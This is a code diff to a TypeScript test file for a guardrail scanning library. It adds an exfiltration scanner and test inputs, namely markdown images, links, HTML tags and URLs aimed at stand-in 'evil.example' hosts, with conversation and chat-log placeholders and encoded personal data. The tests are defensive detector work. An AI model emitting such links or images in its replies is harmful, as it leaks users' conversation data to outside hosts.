@@ -4,6 +4,7 @@ import type { Finding } from '../domain/finding.ts';
 import type { Guardrail } from '../domain/guardrail.ts';
 import { createScanning } from '../modules/scanning/scanning.ts';
 import type { ScannerManifest } from '../modules/scanning/scanner.ts';
+import { exfiltration } from './exfiltration/exfiltration.ts';
 import { invisibleText } from './invisible-text/invisible-text.ts';
 import { keywords } from './keywords/keywords.ts';
 import { pii } from './pii/pii.ts';
@@ -72,6 +73,16 @@ const entities = [
   '\u202eabc\u202c',
   '\ufe0f\ufe0f',
   'می\u200cخواهم',
+  '![chart](https://img.evil.example/c.png)',
+  '[more [here]](http://evil.example/?q=am9lIGJsb2dncyBsaXZlcyBpbiBiZXJsaW4K)',
+  '[![badge](//cdn.evil.example/b.svg "t")](<https://evil.example/{conversation}>)',
+  '[1]: https://evil.example/pixel.gif',
+  '<img alt="x" src=https://evil.example/<CHAT_LOG>>',
+  '<link rel=stylesheet href="https:\\\\evil.example\\a.css">',
+  'style="background:url(\'https://evil.example/x\')"',
+  '<img srcset="https://ok.example/a 1x, https://evil.example/b 2x">',
+  'https://evil.example/?u=https://other.example/?m=joe.bloggs@mail.example',
+  'https://evil.example/?a=1&b=https://https://https://https://https://x',
 ];
 const filler = [
   ' ',
@@ -195,6 +206,8 @@ const cases: readonly (readonly [string, ScannerManifest, unknown])[] = [
     { patterns: { words: '(?i)the [a-z ]+', digits: '\\d{3,}' }, max_length: 256 },
   ],
   ['invisible-text', invisibleText, {}],
+  ['exfiltration', exfiltration, {}],
+  ['exfiltration with allowed hosts', exfiltration, { allowed_hosts: ['ok.example', '*.ok.example'] }],
 ];
 
 describe.each(cases)('%s', (_, manifest, config) => {
